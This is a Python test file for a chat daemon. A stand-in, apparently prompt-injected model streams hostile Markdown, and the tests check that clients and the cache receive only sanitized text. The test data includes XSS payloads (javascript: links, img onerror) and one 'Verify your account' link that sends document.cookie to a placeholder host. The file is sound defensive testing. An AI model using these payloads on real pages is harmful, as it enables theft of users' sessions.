"""A prompt-injected model under a real `bitbd serve`: an OpenAI-compatible stand-in on loopback streams hostile
Markdown split across deltas at any position; what reaches the client (each delta, the whole answer, the cached
answer) renders no script link and no raw HTML, and ordinary Markdown arrives unchanged (issue 15, item 6)."""

from __future__ import annotations

import asyncio
import itertools
import json
import threading
from collections.abc import Iterator
from typing import Any

import aiohttp
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bitbd.answer.markdown import sanitize
from bitbd.answer.passages import Markers
from tests.llm import FakeLLM, fake_llm
from tests.markdown import HOSTILE_TEXT, ORDINARY_TEXT, unsafe_parts
from tests.support.daemon import Daemon, bitbd, clean_env, finished, poll_job

DOC = (
    b"# Returns\n\nItems can be returned within 30 days of delivery [for a refund](javascript:alert(1)) "
    b"<img src=x onerror=alert(1)>. Sale items cannot be returned.\n"
)
Served = tuple[FakeLLM, Daemon, str]
_asked = itertools.count()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    tmp = tmp_path_factory.mktemp("hostile-answers")
    loop = asyncio.new_event_loop()  # the stand-in model runs here while the tests ask from their own loops
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    model = fake_llm()
    llm = asyncio.run_coroutine_threadsafe(model.__aenter__(), loop).result(10)
    env = clean_env(
        BITBD_ANSWER__GENERATOR="openai",
        BITBD_PLUGINS__OPENAI__BASE_URL=llm.url,
        BITBD_PLUGINS__OPENAI__MODEL="fake",
        BITBD_PLUGINS__OPENAI__CONNECT_TIMEOUT="2",
        BITBD_CHAT__RATE_LIMIT_PER_MINUTE="0",
    )  # hypothesis asks many times when it shrinks
    daemon = Daemon(tmp / "data", tmp, env=env).start()
    try:
        data = str(daemon.data_dir)
        assert bitbd("tenant", "create", "acme", "--data-dir", data, cwd=tmp, env=env).returncode == 0
        key = bitbd("key", "create", "--tenant", "acme", "--data-dir", data, cwd=tmp, env=env).stdout.strip()
        assert poll_job(daemon, key, daemon.upload(key, "returns.md", DOC), finished)["status"] == "succeeded"
        yield llm, daemon, key
    finally:
        daemon.stop()
        asyncio.run_coroutine_threadsafe(model.__aexit__(None, None, None), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(5)
    assert "Traceback" not in daemon.output(), daemon.output()[-3000:]


async def _ask(daemon: Daemon, key: str, question: str) -> tuple[list[str], dict[str, Any]]:
    async with (
        aiohttp.ClientSession() as session,
        session.ws_connect(
            daemon.url.replace("http", "ws") + "/v1/chat", headers={"Authorization": f"Bearer {key}"}
        ) as ws,
    ):
        await ws.send_json({"type": "ask", "id": "q", "question": question})
        deltas = []
        async with asyncio.timeout(30):
            async for msg in ws:
                event = json.loads(msg.data)
                if event["type"] == "delta":
                    deltas.append(event["text"])
                elif event["type"] in ("done", "error"):
                    return deltas, dict(event)
    raise AssertionError("closed before the answer ended")


def ask(served: Served, pieces: list[str]) -> tuple[list[str], dict[str, Any], str]:
    llm, daemon, key = served
    llm.mode, llm.pieces = "ok", pieces
    question = f"How many days do I have to return an item, case q{next(_asked)}x?"
    deltas, end = asyncio.run(_ask(daemon, key, question))
    assert end["type"] == "done", end
    return deltas, end, question


def split(text: str, cuts: list[int]) -> list[str]:
    bounds = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
    return [text[a:b] for a, b in itertools.pairwise(bounds) if a < b]


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(HOSTILE_TEXT.filter(lambda t: sanitize(t).strip() != ""), st.lists(st.integers(0, 10_000), max_size=12))
def test_hostile_model_output_reaches_clients_and_the_cache_only_as_safe_markdown(
    served: Served, text: str, cuts: list[int]
) -> None:
    deltas, end, question = ask(served, split(text, cuts))
    answer = "".join(deltas)
    for k in range(1, len(deltas) + 1):  # a client renders the answer as it streams in
        assert unsafe_parts("".join(deltas[:k])) == [], (text, deltas[:k])
    assert answer == sanitize(cited(text)), "the same rules whatever the split"
    assert not end["cached"]

    cached_deltas, cached_end = asyncio.run(_ask(served[1], served[2], question))
    assert cached_end["type"] == "done" and cached_end["cached"], cached_end
    assert "".join(cached_deltas) == answer, "the cache holds the safe answer"


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ORDINARY_TEXT.filter(lambda t: t.strip() == t), st.lists(st.integers(0, 10_000), max_size=12))
def test_ordinary_markdown_arrives_unchanged(served: Served, text: str, cuts: list[int]) -> None:
    deltas, _, _ = ask(served, split(text, cuts))
    assert "".join(deltas) == cited(text), "unchanged, but for markers of sources the model was not given"


def cited(text: str) -> str:
    """`text` without the markers of sources other than [1]: the tenant has one document."""
    markers = Markers({1})
    return markers.feed(text) + markers.close()


def test_the_extractive_fallback_is_made_safe_too(served: Served) -> None:
    """The model is down: the answer quotes the (hostile) document itself, through the same rules."""
    llm = served[0]
    llm.mode = "error"
    try:
        deltas, end = asyncio.run(_ask(served[1], served[2], "How many days do I have to return an item?"))
    finally:
        llm.mode = "ok"
    answer = "".join(deltas)
    assert end["type"] == "done" and "30 days" in answer, answer
    assert unsafe_parts(answer) == [] and "javascript:" not in answer and "<img" not in answer, answer


def test_the_reported_answer(served: Served) -> None:
    hostile = "[Verify your account](javascript:fetch('//x/'+document.cookie)) <img src=x onerror=alert(1)>"
    deltas, _, _ = ask(served, list(hostile))  # one character per delta
    assert "".join(deltas) == "[Verify your account] &lt;img src=x onerror=alert(1)>"
